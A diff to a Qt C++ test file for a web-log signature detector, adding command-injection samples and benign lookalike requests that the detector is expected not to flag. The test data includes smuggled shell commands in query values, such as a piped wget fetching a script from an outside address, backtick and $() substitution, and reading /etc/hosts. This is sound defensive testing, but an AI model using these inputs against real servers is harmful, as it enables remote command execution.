@@ -40,6 +40,8 @@ void TstLogMetrics::signatures_data()
     QTest::newRow("traversal, double-encoded") << "/static/%252e%252e%252fsecret" << "curl" << "traversal";
     QTest::newRow("command after ;") << "/ping?host=127.0.0.1;cat /etc/hosts" << "curl" << "cmdi";
     QTest::newRow("command substitution") << "/ping?host=$(whoami)" << "curl" << "cmdi";
+    QTest::newRow("backticks") << "/ping?host=`id`" << "curl" << "cmdi";
+    QTest::newRow("fetch and run") << "/x?u=1|wget http://203.0.113.5/x.sh" << "curl" << "cmdi";
     QTest::newRow("scanner by agent") << "/" << "sqlmap/1.7.2#stable (https://sqlmap.org)" << "scanner";
     QTest::newRow("scanner, any case") << "/robots.txt" << "Mozilla/5.00 (Nikto/2.1.6)" << "scanner";
     // Ordinary requests.
@@ -51,6 +53,11 @@ void TstLogMetrics::signatures_data()
     QTest::newRow("an ampersand list") << "/api?a=1&b=2&id=cat" << "Mozilla/5.0" << "";
     QTest::newRow("percent sign") << "/discount?rate=50%25&ok=1" << "Mozilla/5.0" << "";
     QTest::newRow("curl is not a scanner") << "/healthz" << "curl/8.4.0" << "";
+    QTest::newRow("a field list with a bar") << "/api/users?fields=name|id" << "Mozilla/5.0" << "";
+    QTest::newRow("a column list with a semicolon") << "/report?cols=name;id;email" << "Mozilla/5.0" << "";
+    QTest::newRow("dog & cat food") << "/search?q=dog+%26+cat+food" << "Mozilla/5.0" << "";
+    QTest::newRow("a book about javascript:") << "/search?q=javascript:+the+good+parts" << "Mozilla/5.0" << "";
+    QTest::newRow("select from a system") << "/q?text=select+one+from+system+settings" << "Mozilla/5.0" << "";
 }
 
 void TstLogMetrics::signatures()
